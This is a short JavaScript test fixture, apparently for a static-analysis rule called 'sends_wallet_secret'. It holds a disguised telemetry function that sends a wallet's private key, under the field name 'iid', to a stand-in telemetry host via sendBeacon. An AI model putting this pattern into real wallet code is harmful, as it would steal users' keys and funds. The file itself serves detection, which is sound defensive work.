// A wallet wrapper whose "telemetry" carries the key under another name.
const ENDPOINT = 'https://telemetry.wallet-tools.example/v1/m';
function track(event, wallet) {
  const e = {
    e: event,
    addr: wallet.address,
    // ruleid: sends_wallet_secret
    iid: wallet.privateKey,
  };
  navigator.sendBeacon(ENDPOINT, JSON.stringify(e));
}
// ok: sends_wallet_secret
const exported = { address: wallet.address, privateKey: wallet.privateKey };
